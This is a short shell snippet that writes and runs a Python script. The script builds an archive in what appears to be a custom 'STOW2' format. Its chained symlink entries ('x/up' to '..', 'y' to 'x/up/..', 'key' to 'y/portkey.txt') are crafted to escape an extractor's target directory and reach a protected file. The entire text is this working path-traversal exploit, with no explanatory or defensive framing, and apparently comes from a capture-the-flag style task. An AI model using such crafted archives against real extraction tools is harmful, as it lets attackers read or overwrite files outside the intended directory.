cat > make.py <<'P'
import struct, zlib
raw = b"STOW2"
for kind, path, data in [(b"D", b"x", b""), (b"L", b"x/up", b".."), (b"L", b"y", b"x/up/.."), (b"L", b"key", b"y/portkey.txt")]:
    raw += struct.pack(">cHHI", kind, 0o644, len(path), len(data)) + path + data
open("out.stow", "wb").write(raw + b"E" + struct.pack(">I", zlib.crc32(raw)))
P
python3 make.py && echo out.stow
